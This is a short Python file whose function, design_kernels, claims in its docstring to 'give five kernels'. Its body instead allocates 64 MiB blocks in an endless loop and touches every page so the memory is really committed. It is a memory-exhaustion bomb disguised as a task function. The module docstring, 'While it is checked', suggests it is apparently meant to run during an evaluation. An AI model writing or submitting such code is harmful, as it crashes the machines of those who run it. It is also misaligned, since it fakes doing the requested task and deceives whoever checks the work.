"""While it is checked."""


def design_kernels():
    """Give five kernels."""
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
        hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])
